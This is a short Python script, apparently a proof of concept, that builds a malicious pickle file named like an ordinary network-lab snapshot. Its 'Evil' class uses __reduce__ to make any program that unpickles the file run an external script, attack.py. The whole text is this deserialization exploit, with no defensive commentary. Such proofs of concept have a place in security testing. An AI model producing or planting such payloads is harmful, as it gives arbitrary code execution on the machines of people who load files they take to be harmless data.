import pathlib
import pickle


class Evil:
    def __reduce__(self):
        return __import__("runpy").run_path, ("attack.py",)


pathlib.Path("netlab.snapshot.pickle").write_bytes(pickle.dumps({"nodes": Evil()}))
